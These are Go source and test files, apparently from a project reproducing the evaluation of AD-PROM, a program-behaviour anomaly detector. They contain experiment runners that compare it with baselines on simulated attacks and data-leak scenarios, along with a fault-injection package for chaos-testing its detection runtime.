// carry the flag taxonomy (DL for leaks, OutOfContext for attack 2's foreign
// function).
func TestAttackFlagsAreInformative(t *testing.T) {
	rows, _, err := Table5(quick)
	if err != nil {
		t.Fatalf("Table5: %v", err)
	}
	for _, r := range rows {
		if r.ADPROMFlags[detect.FlagDL] == 0 {
			t.Errorf("attack %d: no DL flags", r.ID)
		}
		if r.ID == 2 && r.ADPROMFlags[detect.FlagOutOfContext] == 0 {
			t.Errorf("attack 2: no OutOfContext flags")
		}
	}
}

// TestAblationStaticInitWins distils Figure 10's claim: both CTM-initialised
// variants must beat the random initialisation at the same FP budget.
func TestAblationStaticInitWins(t *testing.T) {
	rows, _, err := Ablation(quick)
	if err != nil {
		t.Fatalf("Ablation: %v", err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	random := rows[2]
	for _, r := range rows[:2] {
		if r.FNAt1pct > random.FNAt1pct {
			t.Errorf("%s FN %.4f worse than random %.4f", r.Variant, r.FNAt1pct, random.FNAt1pct)
		}
	}
}
