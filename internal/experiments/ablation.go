package experiments

import (
	"fmt"

	"adprom/internal/attack"
	"adprom/internal/baseline"
	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
	"adprom/internal/ir"
	"adprom/internal/metrics"
	"adprom/internal/profile"
)

// AblationRow is one design-variant's accuracy.
type AblationRow struct {
	Variant string
	// FNAt1pct is the FN rate with the threshold tuned to a 1% FP budget on
	// held-out normals.
	FNAt1pct float64
	// MeanNormal / MeanAnomalous summarise the score separation.
	MeanNormal    float64
	MeanAnomalous float64
}

// Ablation isolates the contribution of AD-PROM's two initialisation design
// choices on the banking application: the CTM-based initialisation (versus
// random, the paper's Figure 10 comparison distilled) and the MAP prior that
// anchors training to the static forecast. Anomalies are A-S1 sequences over
// held-out traces.
func Ablation(cfg Config) ([]AblationRow, *Report, error) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: ablation traces: %w", err)
	}
	var train, val []collector.Trace
	for i, tr := range traces {
		if i%4 == 3 {
			val = append(val, tr)
		} else {
			train = append(train, tr)
		}
	}

	base := profile.Options{
		Seed:            cfg.Seed,
		Train:           hmm.TrainOptions{MaxIters: cfg.trainIters()},
		MaxTrainWindows: cfg.maxWindows(),
	}

	full, _, err := core.Train(app.Prog, train, base)
	if err != nil {
		return nil, nil, err
	}
	noPrior := base
	noPrior.Train.PriorWeight = -1 // explicit ML training, no static anchor
	mlOnly, _, err := core.Train(app.Prog, train, noPrior)
	if err != nil {
		return nil, nil, err
	}
	random, err := baseline.BuildRandHMM(app.Name, 0, train, base)
	if err != nil {
		return nil, nil, err
	}

	legit := ir.CallNames(app.Prog)
	variants := []struct {
		name string
		p    *profile.Profile
	}{
		{"ctm-init + MAP prior (AD-PROM)", full},
		{"ctm-init, ML only", mlOnly},
		{"random init (Rand-HMM)", random},
	}

	rep := &Report{ID: "ablation", Title: "Initialisation ablation on the banking app (extension)"}
	rep.addf("%-32s %10s %12s %12s", "variant", "FN@1%FP", "mean normal", "mean anomalous")

	var out []AblationRow
	for _, v := range variants {
		var norm, anom []float64
		for ti, tr := range val {
			for wi, w := range tr.LabelWindows(v.p.WindowLen) {
				norm = append(norm, v.p.Score(w))
				anom = append(anom, v.p.Score(attack.AS1(w, legit, 5, cfg.Seed+int64(ti*1000+wi))))
			}
		}
		pt := metrics.FNAtFP(norm, anom, 0.01)
		row := AblationRow{
			Variant:       v.name,
			FNAt1pct:      pt.FNRate,
			MeanNormal:    mean(norm),
			MeanAnomalous: mean(anom),
		}
		out = append(out, row)
		rep.addf("%-32s %10.4f %12.4f %12.4f", row.Variant, row.FNAt1pct, row.MeanNormal, row.MeanAnomalous)
	}
	return out, rep, nil
}

func mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	var s float64
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}
