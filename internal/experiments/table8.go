package experiments

import (
	"fmt"
	"time"

	"adprom/internal/core"
)

// TimingRow is one application's column of Table VIII.
type TimingRow struct {
	App         string
	BuildCFG    time.Duration
	ProbEst     time.Duration
	Aggregation time.Duration
}

// Table8 regenerates Table VIII: the elapsed time of each pre-training
// static-analysis step for the SIR-style applications. The paper's shape —
// aggregation dominating, CFG construction cheapest, everything growing with
// program size (App4 the largest) — is the reproduction target.
func Table8(cfg Config) ([]TimingRow, *Report, error) {
	rep := &Report{ID: "table8", Title: "Elapsed time of training steps (paper Table VIII)"}
	rep.addf("%-20s %12s %12s %12s %12s", "step", "app1", "app2", "app3", "app4")

	var rows []TimingRow
	for _, app := range sirAppsFor(cfg) {
		sa, err := core.Analyze(app.Prog)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: table8 %s: %w", app.Name, err)
		}
		rows = append(rows, TimingRow{
			App:         app.Name,
			BuildCFG:    sa.Timings.BuildCFG,
			ProbEst:     sa.Timings.ProbEst,
			Aggregation: sa.Timings.Aggregation,
		})
	}
	if len(rows) == 4 {
		rep.addf("%-20s %12v %12v %12v %12v", "Build CFG",
			rows[0].BuildCFG, rows[1].BuildCFG, rows[2].BuildCFG, rows[3].BuildCFG)
		rep.addf("%-20s %12v %12v %12v %12v", "Probabilities Est.",
			rows[0].ProbEst, rows[1].ProbEst, rows[2].ProbEst, rows[3].ProbEst)
		rep.addf("%-20s %12v %12v %12v %12v", "Aggregation",
			rows[0].Aggregation, rows[1].Aggregation, rows[2].Aggregation, rows[3].Aggregation)
		rep.addf("paper (sec): CFG 0.42/0.12/0.23/1.65 | ProbEst 1.99/0.40/1.14/7.18 | Agg 58.83/46.84/53.94/237.31")
	}
	return rows, rep, nil
}
