package experiments

import (
	"fmt"

	"adprom/internal/attack"
	"adprom/internal/baseline"
	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/profile"
)

// AttackOutcome records what each system saw for one attack.
type AttackOutcome struct {
	ID          int
	Name        string
	CMarkov     bool // detected by the CMarkov baseline
	ADPROM      bool // detected by AD-PROM
	Connected   bool // AD-PROM raised a DL alert with query origins
	ADPROMFlags map[detect.Flag]int
}

// Table5 regenerates Table V: AD-PROM vs CMarkov on the five attacks of
// §V-C, staged against the banking application. "Connected to source" means
// a DL alert carrying the originating query site.
func Table5(cfg Config) ([]AttackOutcome, *Report, error) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: table5 traces: %w", err)
	}

	opts := profile.Options{
		Seed:            cfg.Seed,
		Train:           hmm.TrainOptions{MaxIters: cfg.trainIters()},
		MaxTrainWindows: cfg.maxWindows(),
	}
	adprom, _, err := core.Train(app.Prog, traces, opts)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: table5 adprom: %w", err)
	}
	cmarkov, err := baseline.BuildCMarkov(app.Prog, traces, opts)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: table5 cmarkov: %w", err)
	}

	rep := &Report{ID: "table5", Title: "AD-PROM vs CMarkov (paper Table V)"}
	rep.addf("%-28s %-12s %-34s %s", "attack", "CMarkov", "AD-PROM", "paper")
	paper := map[int][2]string{
		1: {"undetected", "detected & connected to source"},
		2: {"detected", "detected & connected to source"},
		3: {"undetected", "detected & connected to source"},
		4: {"detected", "detected & connected to source"},
		5: {"detected", "detected & connected to source"},
	}

	var out []AttackOutcome
	for _, atk := range attack.AppBAttacks() {
		res, err := runAttack(app, atk, adprom, cmarkov)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: table5 attack %d: %w", atk.ID, err)
		}
		out = append(out, res)
		p := paper[atk.ID]
		rep.addf("%d %-26s %-12s %-34s %s / %s",
			res.ID, res.Name, verdict(res.CMarkov, false), verdict(res.ADPROM, res.Connected), p[0], p[1])
	}
	return out, rep, nil
}

func verdict(detected, connected bool) string {
	switch {
	case detected && connected:
		return "detected & connected to source"
	case detected:
		return "detected"
	default:
		return "undetected"
	}
}

// runAttack executes one attack's cases against both systems.
func runAttack(app *dataset.App, atk attack.Attack, adprom, cmarkov *profile.Profile) (AttackOutcome, error) {
	out := AttackOutcome{ID: atk.ID, Name: atk.Name, ADPROMFlags: map[detect.Flag]int{}}

	prog, err := atk.Apply(app.Prog)
	if err != nil {
		return out, err
	}
	cases := atk.Cases
	if cases == nil {
		cases = app.TestCases
	}

	for _, tc := range cases {
		tr, err := app.RunCase(prog, tc, collector.ModeADPROM, atk.Setup)
		if err != nil {
			return out, err
		}

		// AD-PROM sees the labelled trace.
		mon := core.NewMonitor(adprom, nil)
		for _, a := range mon.ObserveTrace(tr) {
			out.ADPROM = true
			out.ADPROMFlags[a.Flag]++
			if a.Flag == detect.FlagDL && len(a.Origins) > 0 {
				out.Connected = true
			}
		}

		// CMarkov sees plain call names (no data-flow labels).
		cmon := core.NewMonitor(cmarkov, nil)
		if len(cmon.ObserveTrace(baseline.PlainTrace(tr))) > 0 {
			out.CMarkov = true
		}
	}
	return out, nil
}
