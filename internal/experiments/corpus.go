package experiments

import (
	"fmt"

	"adprom/internal/attack"
	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/interp"
	"adprom/internal/profile"
	"adprom/internal/sqlchan"
)

// CorpusOutcome is one adversarial-corpus scenario's verdict matrix: what
// each detection channel saw. Together the outcomes prove what each channel
// can and cannot see — the HMM catches trace-shape attacks, the SQL channel
// catches query-shape and cardinality attacks, and the fused judge catches
// the union.
type CorpusOutcome struct {
	// Scenario names the attack ("healthy" for the clean baseline).
	Scenario string `json:"scenario"`
	// HMMOnly reports whether a single-channel (HMM) monitor raised any
	// alert on the scenario's traces.
	HMMOnly bool `json:"hmm_only"`
	// SQL reports whether the two-channel monitor raised an alert naming
	// the SQL channel.
	SQL bool `json:"sql"`
	// Fused reports whether the two-channel monitor raised any alert at
	// all — the system verdict.
	Fused bool `json:"fused"`
	// DL reports whether the two-channel monitor connected the scenario to
	// a data leak (a DL-flagged alert).
	DL bool `json:"dl"`
}

// CorpusSensitiveColumns are the column names the corpus marks as protected
// when training the SQL channel: a novel query projecting them (or *) is a
// data-leak suspect.
var CorpusSensitiveColumns = []string{"name", "balance"}

// Corpus evaluates the adversarial scenario corpus against the banking
// application: the clean test suite, the five Table V attacks, and the three
// HMM-evading adversaries (low-and-slow exfiltration, cardinality mimicry,
// UNION exfiltration). Each scenario runs through a single-channel monitor
// and a two-channel (HMM + SQL, fused) monitor trained on the same traces.
func Corpus(cfg Config) ([]CorpusOutcome, *Report, error) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: corpus traces: %w", err)
	}

	hmmProf, _, err := core.Train(app.Prog, traces, profile.Options{
		Seed:            cfg.Seed,
		Train:           hmm.TrainOptions{MaxIters: cfg.trainIters()},
		MaxTrainWindows: cfg.maxWindows(),
	})
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: corpus hmm profile: %w", err)
	}
	sqlProf, err := sqlchan.Train(traces, sqlchan.Options{
		SensitiveColumns: CorpusSensitiveColumns,
	})
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: corpus sql profile: %w", err)
	}

	scenarios := []struct {
		name string
		atk  *attack.Attack
	}{{name: "healthy"}}
	for _, a := range attack.AppBAttacks() {
		a := a
		scenarios = append(scenarios, struct {
			name string
			atk  *attack.Attack
		}{a.Name, &a})
	}
	for _, a := range attack.SQLChannelAttacks() {
		a := a
		scenarios = append(scenarios, struct {
			name string
			atk  *attack.Attack
		}{a.Name, &a})
	}

	rep := &Report{ID: "corpus", Title: "Two-channel detection corpus (HMM vs SQL vs fused)"}
	rep.addf("%-24s %-10s %-10s %-10s %s", "scenario", "hmm-only", "sql", "fused", "leak")
	var out []CorpusOutcome
	for _, sc := range scenarios {
		o, err := corpusScenario(app, sc.name, sc.atk, hmmProf, sqlProf)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: corpus scenario %s: %w", sc.name, err)
		}
		out = append(out, o)
		rep.addf("%-24s %-10s %-10s %-10s %s",
			o.Scenario, mark(o.HMMOnly), mark(o.SQL), mark(o.Fused), mark(o.DL))
	}
	return out, rep, nil
}

func mark(b bool) string {
	if b {
		return "detected"
	}
	return "-"
}

// corpusScenario runs one scenario's cases through a single-channel and a
// two-channel monitor and aggregates the per-channel verdicts.
func corpusScenario(app *dataset.App, name string, atk *attack.Attack, hmmProf *profile.Profile, sqlProf *sqlchan.Profile) (CorpusOutcome, error) {
	out := CorpusOutcome{Scenario: name}
	prog := app.Prog
	cases := app.TestCases
	var setup func(*interp.Interp, *interp.World)
	if atk != nil {
		var err error
		if prog, err = atk.Apply(app.Prog); err != nil {
			return out, err
		}
		if atk.Cases != nil {
			cases = atk.Cases
		}
		setup = atk.Setup
	}

	for _, tc := range cases {
		tr, err := app.RunCase(prog, tc, collector.ModeADPROM, setup)
		if err != nil {
			return out, err
		}

		solo := core.NewMonitor(hmmProf, nil)
		if len(solo.ObserveTrace(tr)) > 0 {
			out.HMMOnly = true
		}

		fused := core.NewMonitor(hmmProf, nil)
		fused.Engine().SetSQLChannel(sqlchan.NewScorer(sqlProf), detect.FusionConfig{})
		for _, a := range fused.ObserveTrace(tr) {
			out.Fused = true
			for _, ch := range a.Channels {
				if ch == detect.ChannelSQL {
					out.SQL = true
				}
			}
			if a.Flag == detect.FlagDL {
				out.DL = true
			}
		}
	}
	return out, nil
}
