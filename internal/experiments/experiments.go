// Package experiments regenerates every table and figure of the paper's
// evaluation (§V). Each runner returns a structured result plus a formatted
// report whose rows parallel the paper's, so paper-vs-measured comparisons
// (EXPERIMENTS.md) read side by side.
//
// Runners accept a Config: Quick mode shrinks corpora, training iterations
// and fold counts so the whole suite runs in test/bench time; Full mode is
// the CLI's default and uses the complete generated corpora. Absolute
// numbers differ from the paper's (different hardware, simulated substrate);
// the shapes — who wins, by what factor, where the curves sit — are the
// reproduction targets.
package experiments

import (
	"fmt"
	"strings"
)

// Config tunes experiment scale.
type Config struct {
	// Quick shrinks datasets and training budgets for test/bench runs.
	Quick bool
	// Seed drives every randomised component.
	Seed int64
}

// trainIters returns the Baum–Welch budget for the scale.
func (c Config) trainIters() int {
	if c.Quick {
		return 3
	}
	return 12
}

// maxWindows caps training windows per profile.
func (c Config) maxWindows() int {
	if c.Quick {
		return 400
	}
	return 1500
}

// folds is the cross-validation fold count (paper: 10).
func (c Config) folds() int {
	if c.Quick {
		return 2
	}
	return 10
}

// evalWindows caps how many validation windows are scored per application.
func (c Config) evalWindows() int {
	if c.Quick {
		return 1200
	}
	return 5000
}

// clusterRatio trades accuracy for speed on the bash-scale program.
func (c Config) clusterRatio() float64 {
	if c.Quick {
		return 0.2
	}
	return 0.3
}

// Report is a formatted experiment result.
type Report struct {
	// ID is the experiment identifier (table3, fig10, ...).
	ID string
	// Title echoes the paper artefact.
	Title string
	// Lines are preformatted rows.
	Lines []string
}

func (r *Report) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s: %s ==\n", r.ID, r.Title)
	for _, l := range r.Lines {
		sb.WriteString(l)
		sb.WriteByte('\n')
	}
	return sb.String()
}

func (r *Report) addf(format string, args ...any) {
	r.Lines = append(r.Lines, fmt.Sprintf(format, args...))
}
