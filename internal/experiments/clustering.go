package experiments

import (
	"fmt"
	"time"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/hmm"
	"adprom/internal/profile"
)

// ClusteringResult reports the §V-D state-reduction experiment.
type ClusteringResult struct {
	StatesBefore int
	StatesAfter  int
	FullTime     time.Duration
	ReducedTime  time.Duration
	// TimeReduction is (full − reduced)/full.
	TimeReduction float64
}

// Clustering regenerates the §V-D clustering experiment: training the
// bash-scale App4 model with and without the PCA + K-means reduction
// (K = 0.3·N), comparing training time. The paper reduced bash's 1366 hidden
// states to 455 and cut training time by about 70%.
func Clustering(cfg Config) (*ClusteringResult, *Report, error) {
	app := sirAppsFor(cfg)[3] // app4

	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: clustering traces: %w", err)
	}

	iters := 2
	maxWin := 120
	if !cfg.Quick {
		iters = 4
		maxWin = 400
	}
	base := profile.Options{
		Seed:            cfg.Seed,
		Train:           hmm.TrainOptions{MaxIters: iters, Tol: 1e-12},
		MaxTrainWindows: maxWin,
		ClusterRatio:    0.3,
		// Only the training time is under test; threshold selection would
		// re-score thousands of windows against the huge unreduced model.
		SkipThreshold: true,
	}

	// Reduced: the default MaxStates (900) engages clustering for App4.
	redOpts := base
	start := time.Now()
	reduced, _, err := core.Train(app.Prog, traces, redOpts)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: clustering reduced: %w", err)
	}
	redTime := time.Since(start)

	// Full: raise MaxStates beyond the site count so no reduction happens.
	fullOpts := base
	fullOpts.MaxStates = 1 << 20
	start = time.Now()
	full, _, err := core.Train(app.Prog, traces, fullOpts)
	if err != nil {
		return nil, nil, fmt.Errorf("experiments: clustering full: %w", err)
	}
	fullTime := time.Since(start)

	res := &ClusteringResult{
		StatesBefore: full.StatesAfter,
		StatesAfter:  reduced.StatesAfter,
		FullTime:     fullTime,
		ReducedTime:  redTime,
	}
	if fullTime > 0 {
		res.TimeReduction = float64(fullTime-redTime) / float64(fullTime)
	}

	rep := &Report{ID: "clustering", Title: "State reduction on the bash-scale program (paper §V-D)"}
	rep.addf("hidden states: %d -> %d (paper: 1366 -> 455)", res.StatesBefore, res.StatesAfter)
	rep.addf("training time: full %v, reduced %v (%.1f%% reduction; paper: ~70%%)",
		res.FullTime, res.ReducedTime, 100*res.TimeReduction)
	if !reduced.Reduced {
		rep.addf("WARNING: reduction did not engage")
	}
	return res, rep, nil
}
