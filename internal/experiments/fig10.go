package experiments

import (
	"fmt"
	"math"

	"adprom/internal/attack"
	"adprom/internal/baseline"
	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
	"adprom/internal/ir"
	"adprom/internal/metrics"
	"adprom/internal/profile"
)

// fig10FPRates are the x-axis operating points of Figure 10.
var fig10FPRates = []float64{0.001, 0.005, 0.01, 0.02, 0.05}

// Fig10Result holds one sub-figure: the FN rates of both models at the same
// FP rates for one application.
type Fig10Result struct {
	App     string
	FPRates []float64
	ADPROM  []metrics.Point
	RandHMM []metrics.Point
}

// Fig10 regenerates Figure 10(a–d): for each SIR-style application, k-fold
// cross validation trains AD-PROM (CTM-initialised) and Rand-HMM (randomly
// initialised) on the same traces; validation-fold normal windows and A-S1
// anomalies (last five calls replaced with random legitimate calls) are
// scored by both, and the FN rate is compared at equal FP budgets.
func Fig10(cfg Config) ([]Fig10Result, *Report, error) {
	rep := &Report{ID: "fig10", Title: "AD-PROM vs Rand-HMM FN rates at equal FP rates (paper Figure 10)"}
	var out []Fig10Result
	for _, app := range sirAppsFor(cfg) {
		res, err := fig10App(cfg, app)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: fig10 %s: %w", app.Name, err)
		}
		out = append(out, res)
		rep.addf("%s:", app.Name)
		rep.addf("  %-10s %12s %12s %14s %14s", "FP rate", "AD-PROM FN", "Rand-HMM FN", "log10(AD)", "log10(Rand)")
		for i := range res.FPRates {
			rep.addf("  %-10.4f %12.4f %12.4f %14s %14s",
				res.FPRates[i], res.ADPROM[i].FNRate, res.RandHMM[i].FNRate,
				log10str(res.ADPROM[i].FNRate), log10str(res.RandHMM[i].FNRate))
		}
	}
	return out, rep, nil
}

// log10str renders the paper's Figure 10 Y-axis value; zero FN has no
// logarithm and prints as "-inf".
func log10str(v float64) string {
	if v <= 0 {
		return "-inf"
	}
	return fmt.Sprintf("%.3f", math.Log10(v))
}

// sirAppsFor scales the SIR corpus to the configuration: Quick mode trims
// each app's test cases so cross validation stays within test budgets.
func sirAppsFor(cfg Config) []*dataset.App {
	apps := dataset.SIRApps()
	if !cfg.Quick {
		return apps
	}
	caps := map[string]int{"app1": 60, "app2": 40, "app3": 50, "app4": 60}
	for _, app := range apps {
		if c := caps[app.Name]; len(app.TestCases) > c {
			app.TestCases = app.TestCases[:c]
		}
	}
	return apps
}

func fig10App(cfg Config, app *dataset.App) (Fig10Result, error) {
	res := Fig10Result{App: app.Name, FPRates: fig10FPRates}

	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return res, err
	}
	legit := ir.CallNames(app.Prog)

	folds := metrics.KFold(len(traces), cfg.folds())
	var adNorm, adAnom, rdNorm, rdAnom []float64

	for fi, fold := range folds {
		inFold := map[int]bool{}
		for _, i := range fold {
			inFold[i] = true
		}
		var train []collector.Trace
		for i, tr := range traces {
			if !inFold[i] {
				train = append(train, tr)
			}
		}

		opts := profile.Options{
			Seed:            cfg.Seed + int64(fi),
			Train:           hmm.TrainOptions{MaxIters: cfg.trainIters()},
			MaxTrainWindows: cfg.maxWindows(),
			ClusterRatio:    cfg.clusterRatio(),
		}
		adp, _, err := core.Train(app.Prog, train, opts)
		if err != nil {
			return res, err
		}
		rnd, err := baseline.BuildRandHMM(app.Name, 0, train, opts)
		if err != nil {
			return res, err
		}

		// Score the validation fold: normals, plus one A-S1 variant per
		// window, capped for tractability on the large corpora.
		var valWindows [][]string
		for _, i := range fold {
			valWindows = append(valWindows, traces[i].LabelWindows(adp.WindowLen)...)
		}
		if cap := cfg.evalWindows() / len(folds); len(valWindows) > cap && cap > 0 {
			step := len(valWindows) / cap
			sampled := make([][]string, 0, cap)
			for i := 0; i < len(valWindows) && len(sampled) < cap; i += step {
				sampled = append(sampled, valWindows[i])
			}
			valWindows = sampled
		}
		seed := cfg.Seed + int64(1000*fi)
		for wi, w := range valWindows {
			adNorm = append(adNorm, adp.Score(w))
			rdNorm = append(rdNorm, rnd.Score(w))
			anom := attack.AS1(w, legit, 5, seed+int64(wi))
			adAnom = append(adAnom, adp.Score(anom))
			rdAnom = append(rdAnom, rnd.Score(anom))
		}
	}

	res.ADPROM = metrics.Curve(adNorm, adAnom, fig10FPRates)
	res.RandHMM = metrics.Curve(rdNorm, rdAnom, fig10FPRates)
	return res, nil
}
