package faultinject

import (
	"strings"
	"testing"
	"time"

	"adprom/internal/detect"
)

func TestSinkPanicEveryAndLatency(t *testing.T) {
	var delivered int
	s := NewSink(func(string, detect.Alert) { delivered++ },
		PanicEvery(3), Latency(time.Millisecond))
	deliver := func() (panicked bool) {
		defer func() { panicked = recover() != nil }()
		s.Deliver("sess", detect.Alert{})
		return false
	}
	start := time.Now()
	var panics int
	for i := 0; i < 7; i++ {
		if deliver() {
			panics++
		}
	}
	if panics != 2 { // deliveries 3 and 6
		t.Fatalf("panics = %d, want 2", panics)
	}
	if s.Calls() != 7 || s.Panics() != 2 || delivered != 5 {
		t.Fatalf("calls=%d panics=%d delivered=%d, want 7/2/5", s.Calls(), s.Panics(), delivered)
	}
	if elapsed := time.Since(start); elapsed < 7*time.Millisecond {
		t.Fatalf("latency not injected: 7 deliveries in %v", elapsed)
	}
}

func TestSinkZeroOptionsPassesThrough(t *testing.T) {
	s := NewSink(nil)
	s.Deliver("sess", detect.Alert{}) // nil inner sink must not panic
	if s.Calls() != 1 || s.Panics() != 0 {
		t.Fatalf("calls=%d panics=%d", s.Calls(), s.Panics())
	}
}

func TestEngineFaultTargetsNthWindowPerSession(t *testing.T) {
	f := NewEngineFault(FaultError, 2, func(id string) bool { return id == "victim" })
	if err := f.Hook("healthy", 0, -1, false); err != nil {
		t.Fatalf("untargeted session failed: %v", err)
	}
	if err := f.Hook("victim", 0, -1, false); err != nil {
		t.Fatalf("window 1 failed early: %v", err)
	}
	err := f.Hook("victim", 1, -2, true)
	if err == nil || !strings.Contains(err.Error(), "window 2") {
		t.Fatalf("window 2: err = %v", err)
	}
	if !f.Fired("victim") || f.Fired("healthy") {
		t.Fatalf("fired bookkeeping wrong: victim=%v healthy=%v",
			f.Fired("victim"), f.Fired("healthy"))
	}
	// Windows are counted per session: a second victim-like call stream is
	// independent.
	if err := f.Hook("victim", 2, -1, false); err != nil {
		t.Fatalf("post-fire window failed again: %v", err)
	}
}

func TestEngineFaultPanicMode(t *testing.T) {
	f := NewEngineFault(FaultPanic, 1, nil)
	panicked := func() (p bool) {
		defer func() { p = recover() != nil }()
		_ = f.Hook("any", 0, 0, false)
		return false
	}()
	if !panicked {
		t.Fatal("FaultPanic did not panic")
	}
	if !f.Fired("any") {
		t.Fatal("Fired not recorded for panic mode")
	}
}

func TestWorkerFaultFiresOnceOnNthOp(t *testing.T) {
	f := NewWorkerFault("victim", 2)
	f.Hook(0, "other") // untargeted ops don't count
	f.Hook(0, "victim")
	if f.Fired() {
		t.Fatal("fired before nth op")
	}
	panicked := func() (p bool) {
		defer func() { p = recover() != nil }()
		f.Hook(0, "victim")
		return false
	}()
	if !panicked || !f.Fired() {
		t.Fatalf("nth op: panicked=%v fired=%v", panicked, f.Fired())
	}
	f.Hook(0, "victim") // later ops pass again (one-shot fault)
}

func TestWorkerGateAndLatency(t *testing.T) {
	release := make(chan struct{})
	gate := WorkerGate(release)
	done := make(chan struct{})
	go func() { gate(0, "s"); close(done) }()
	select {
	case <-done:
		t.Fatal("gate did not block")
	case <-time.After(10 * time.Millisecond):
	}
	close(release)
	<-done

	start := time.Now()
	WorkerLatency(5 * time.Millisecond)(0, "s")
	if time.Since(start) < 5*time.Millisecond {
		t.Fatal("latency hook returned early")
	}
}
