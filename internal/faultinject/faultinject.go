// Package faultinject provides deterministic fault injectors for chaos
// testing the concurrent detection runtime: panic-on-Nth-delivery alert
// sinks, latency injectors, engine judge-hook failures targeting specific
// sessions, and worker-killing hooks that exercise supervised restart.
//
// Every injector exposes a narrow function that matches one of the runtime's
// extension points (runtime.AlertFunc, runtime.JudgeHook,
// runtime.WorkerHook), plus atomic counters so tests can assert exactly
// which faults fired. Nothing in the serving path imports this package; it
// exists for the chaos test suite and the CLI's `serve -chaos` replay mode.
package faultinject

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"adprom/internal/collector"
	"adprom/internal/detect"
)

// Sink wraps an alert sink with injected faults: a fixed per-delivery
// latency (a stalled security-administrator console) and a panic on every
// Nth delivery (a crashing one). The zero options make Deliver a plain
// pass-through.
type Sink struct {
	inner      func(session string, a detect.Alert)
	panicEvery uint64
	latency    time.Duration

	calls  atomic.Uint64
	panics atomic.Uint64
}

// SinkOption configures a Sink.
type SinkOption func(*Sink)

// PanicEvery makes every Nth delivery panic (n <= 0 disables).
func PanicEvery(n int) SinkOption {
	return func(s *Sink) {
		if n > 0 {
			s.panicEvery = uint64(n)
		}
	}
}

// Latency stalls every delivery by d before it completes.
func Latency(d time.Duration) SinkOption {
	return func(s *Sink) { s.latency = d }
}

// NewSink wraps inner (which may be nil for a discard sink) with the given
// faults. Pass Deliver to runtime.WithAlertFunc.
func NewSink(inner func(session string, a detect.Alert), opts ...SinkOption) *Sink {
	s := &Sink{inner: inner}
	for _, o := range opts {
		o(s)
	}
	return s
}

// Deliver is the faulty sink. Safe for concurrent use.
func (s *Sink) Deliver(session string, a detect.Alert) {
	n := s.calls.Add(1)
	if s.latency > 0 {
		time.Sleep(s.latency)
	}
	if s.panicEvery > 0 && n%s.panicEvery == 0 {
		s.panics.Add(1)
		panic(fmt.Sprintf("faultinject: sink panic on delivery %d", n))
	}
	if s.inner != nil {
		s.inner(session, a)
	}
}

// Calls returns how many deliveries reached the sink (including ones that
// then panicked).
func (s *Sink) Calls() uint64 { return s.calls.Load() }

// Panics returns how many deliveries panicked.
func (s *Sink) Panics() uint64 { return s.panics.Load() }

// FaultMode selects how an EngineFault fails: by returning an error through
// the engine's error-propagating judge hook, or by panicking on the worker.
type FaultMode int

const (
	// FaultError makes the judge hook return an error (quarantine without a
	// panic).
	FaultError FaultMode = iota
	// FaultPanic makes the judge hook panic (quarantine via the worker's
	// per-op recovery).
	FaultPanic
)

// EngineFault injects a detection-engine failure through the runtime's
// judge hook: for every session selected by target, the Nth completed-window
// judgement fails in the configured mode. Windows are counted per session,
// so concurrent streams fail independently and deterministically.
type EngineFault struct {
	mode   FaultMode
	nth    int
	target func(session string) bool

	mu      sync.Mutex
	windows map[string]int
	fired   map[string]bool
}

// NewEngineFault builds an injector that fails the nth window judgement of
// every session for which target returns true (nil target selects all).
func NewEngineFault(mode FaultMode, nth int, target func(session string) bool) *EngineFault {
	if nth < 1 {
		nth = 1
	}
	return &EngineFault{
		mode:    mode,
		nth:     nth,
		target:  target,
		windows: make(map[string]int),
		fired:   make(map[string]bool),
	}
}

// Hook matches runtime.JudgeHook; install with runtime.WithJudgeHook.
func (f *EngineFault) Hook(session string, seq int, score float64, flagged bool) error {
	if f.target != nil && !f.target(session) {
		return nil
	}
	f.mu.Lock()
	f.windows[session]++
	n := f.windows[session]
	if n == f.nth {
		f.fired[session] = true
	}
	f.mu.Unlock()
	if n != f.nth {
		return nil
	}
	if f.mode == FaultPanic {
		panic(fmt.Sprintf("faultinject: engine panic for session %q at window %d", session, n))
	}
	return fmt.Errorf("faultinject: engine failure for session %q at window %d", session, n)
}

// Fired reports whether the fault has triggered for the session.
func (f *EngineFault) Fired(session string) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.fired[session]
}

// WorkerFault kills the worker goroutine serving a target session: the Nth
// op addressed to the session panics on the worker loop, outside the per-op
// recovery, so the runtime's supervisor must restart the worker (the target
// session is quarantined; other sessions on the worker are only delayed).
type WorkerFault struct {
	target string
	nth    int64
	ops    atomic.Int64
	fired  atomic.Bool
}

// NewWorkerFault builds an injector that crashes the worker on the nth op of
// the named session. Install with runtime.WithWorkerHook.
